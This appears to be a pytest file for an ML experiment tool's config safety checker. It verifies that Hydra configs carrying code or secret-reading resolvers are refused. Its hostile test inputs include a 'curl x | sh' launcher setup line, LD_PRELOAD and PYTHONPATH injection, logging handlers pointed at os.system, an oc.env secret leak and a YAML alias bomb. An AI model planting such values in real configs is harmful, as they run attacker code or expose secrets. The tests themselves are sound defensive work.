"""Configs are data, whoever wrote them: any callback, `_target_`, logging factory or code-loading
variable other than nnexp's own, and any resolver that reads the environment or decodes strings,
is refused in one line before Hydra builds anything (command line, experiments/*.yaml, a
--config-dir); a logged config.yaml read back by `nnexp reproduce` is plain data too."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from omegaconf import OmegaConf

from conftest import assert_one_line_error, clean_env, run_app
from nnexp.config.safe import (
    ALLOWED_RESOLVERS,
    PLUGIN_PACKAGES,
    check_composed,
    check_overrides,
)
from nnexp.errors import UserError
from nnexp.safety.logged_yaml import read_mapping

DOTTED = st.from_regex(r"[a-z_][a-z0-9_]{0,8}(\.[a-z_][a-z0-9_]{0,8}){0,3}", fullmatch=True)
RESOLVERS = st.one_of(
    st.sampled_from(["oc.env", "oc.decode", "oc.create", "oc.deprecated"]), DOTTED
).filter(lambda name: name not in ALLOWED_RESOLVERS)
KEYS = st.sampled_from(
    ["tracking.experiment", "dataset.path", "hydra.run.dir", "hydra.job.name", "optim.lr"]
)


def nested(dotted: str, value) -> dict:
    """{"a": {"b": value}} from "a.b"."""
    tree = value
    for part in reversed(dotted.split(".")):
        tree = {part: tree}
    return tree


@given(RESOLVERS, KEYS)
def test_any_resolver_but_hydras_own_is_refused_anywhere(resolver, key):
    text = f"x-${{{resolver}:HOME}}"
    with pytest.raises(UserError, match="resolver"):
        check_overrides([f"{key}={text}"])
    with pytest.raises(UserError, match="resolver"):
        check_composed(OmegaConf.create(nested(key, text)))


@given(
    DOTTED.filter(lambda target: not target.startswith(PLUGIN_PACKAGES)),
    DOTTED.filter(lambda name: name != "mlflow_sweep"),
)
def test_any_target_outside_nnexp_and_hydra_plugins_is_refused(target, name):
    for tree in (
        nested(f"hydra.callbacks.{name}._target_", target),
        nested("hydra.callbacks.mlflow_sweep._target_", target),
        nested("hydra.launcher._target_", target),
        nested(f"{name}._target_", "nnexp.sweep.lifecycle.SweepParent"),
    ):
        with pytest.raises(UserError, match="remove"):
            check_composed(OmegaConf.create(tree))


@pytest.mark.parametrize(
    ("tree", "fragment"),
    [
        ({"hydra": {"job_logging": {"handlers": {"x": {"()": "os.system"}}}}}, "factory"),
        ({"hydra": {"hydra_logging": {"handlers": {"x": {"class": "os.system"}}}}}, "class"),
        ({"hydra": {"job_logging": {"handlers": {"x": {"stream": "ext://os.environ"}}}}}, "ext"),
        ({"hydra": {"job": {"env_set": {"LD_PRELOAD": "/tmp/x.so"}}}}, "LD_PRELOAD"),
        ({"hydra": {"job": {"env_set": {"PYTHONPATH": "/tmp"}}}}, "PYTHONPATH"),
        ({"hydra": {"sweeper": {"custom_search_space": "os.system"}}}, "custom_search_space"),
        ({"hydra": {"launcher": {"setup": ["curl x | sh"]}}}, "setup"),
    ],
    ids=["logging factory", "logging class", "ext stream", "LD_PRELOAD", "PYTHONPATH",
         "optuna space", "launcher setup"],
)  # fmt: skip
def test_code_by_other_names_is_refused(tree, fragment):
    with pytest.raises(UserError, match=fragment):
        check_composed(OmegaConf.create(tree))


def test_nnexps_own_config_passes():
    hydra_conf = {
        "callbacks": {"mlflow_sweep": {"_target_": "nnexp.sweep.lifecycle.SweepParent"}},
        "launcher": {"_target_": "hydra._internal.core_plugins.basic_launcher.BasicLauncher"},
        "run": {"dir": "${hydra.runtime.cwd}/outputs/${now:%Y-%m-%d}"},
        "job": {"env_set": {"OMP_NUM_THREADS": "1"}},
        "job_logging": {"handlers": {"console": {"class": "logging.StreamHandler"}}},
    }
    check_composed(OmegaConf.create({"hydra": hydra_conf, "seed": 0}))


def experiment_dir(tmp_path: Path, body: dict) -> Path:
    """A --config-dir holding experiment/evil.yaml (like experiments/*.yaml)."""
    folder = tmp_path / "extra" / "experiment"
    folder.mkdir(parents=True)
    (folder / "evil.yaml").write_text("# @package _global_\n" + yaml.safe_dump(body))
    return folder.parent


CALLBACK = {"_target_": "builtins.open", "file": "pwned", "mode": "w"}


@pytest.mark.parametrize(
    "how",
    ["command line", "experiment yaml", "environment in yaml", "sweep"],
)
def test_hostile_configs_run_nothing_and_leave_nothing(tmp_path, how):
    args = ["optim.epochs=1"]
    if how == "command line":
        args += [f"+hydra.callbacks.x.{key}={value}" for key, value in CALLBACK.items()]
    elif how == "experiment yaml":
        folder = experiment_dir(tmp_path, {"hydra": {"callbacks": {"x": CALLBACK}}})
        args = ["--config-dir", str(folder), *args, "+experiment=evil"]
    elif how == "environment in yaml":
        folder = experiment_dir(tmp_path, {"tracking": {"experiment": "${oc.env:SECRET}"}})
        args = ["--config-dir", str(folder), *args, "+experiment=evil"]
    else:
        args = ["-m", *args, "optim.lr=0.5,${oc.decode:'1'}"]
    work = tmp_path / "work"
    work.mkdir()
    done = run_app("nnexp-train", *args, cwd=work, env=clean_env(SECRET="hunter2-secret"))
    line = assert_one_line_error(done, "configs are data")
    assert "hunter2" not in done.stdout + done.stderr
    assert list(work.iterdir()) == [], line


def test_logged_config_is_read_as_plain_data(tmp_path):
    path = tmp_path / "config.yaml"
    cases = {
        "interpolation": ("tracking: {experiment: '${oc.env:HOME}'}\n", "interpolation"),
        "alias bomb": (
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
            "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
            "aliases",
        ),
        "not a mapping": ("- 1\n- 2\n", "not a mapping"),
        "not yaml": ("a: [\n", "not valid YAML"),
    }
    for text, fragment in cases.values():
        path.write_text(text)
        with pytest.raises(UserError, match=fragment):
            read_mapping(path, "the logged config.yaml")
    path.write_bytes(b"seed: \xff\xfe\n")
    with pytest.raises(UserError, match="not UTF-8"):
        read_mapping(path, "the logged config.yaml")
    path.write_text("seed: 3\nnote: a $ sign\n")
    assert read_mapping(path, "the logged config.yaml") == {"seed": 3, "note": "a $ sign"}


def test_setup_lines_typed_on_the_command_line_pass_but_not_from_a_file():
    tree = OmegaConf.create({"hydra": {"launcher": {"setup": ["module load python"]}}})
    check_composed(tree, frozenset({"hydra.launcher.setup"}))
    with pytest.raises(UserError, match="setup"):
        check_composed(tree, frozenset({"hydra.launcher.partition"}))
